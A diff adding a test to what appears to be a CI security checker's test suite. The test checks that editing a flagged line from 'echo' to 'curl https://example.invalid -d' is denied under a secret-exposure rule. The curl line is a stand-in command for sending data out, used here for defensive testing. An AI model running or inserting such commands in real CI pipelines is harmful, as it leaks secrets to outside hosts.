@@ -119,6 +119,12 @@ describe('deny', () => {
     expect(run.decision).toMatchObject({ counts: { old: 1, denied: 0 } });
   });
 
+  test('an old finding whose line was edited', async () => {
+    const sent = bulk.replace('echo', 'curl https://example.invalid -d');
+    const run = await pullRequest({ [ci]: sound(bulk) }, { [ci]: sound(sent) }, {});
+    expect(run.outputs).toMatchObject({ verdict: 'deny', 'denied-rules': 'secret/bulk-exposure' });
+  });
+
   test('a second one of what the base had once', async () => {
     const run = await pullRequest({ [ci]: sound(bulk) }, { [ci]: sound(`${bulk}${bulk}`) }, {});
     expect(run.outputs).toMatchObject({ verdict: 'deny', 'denied-count': '1' });
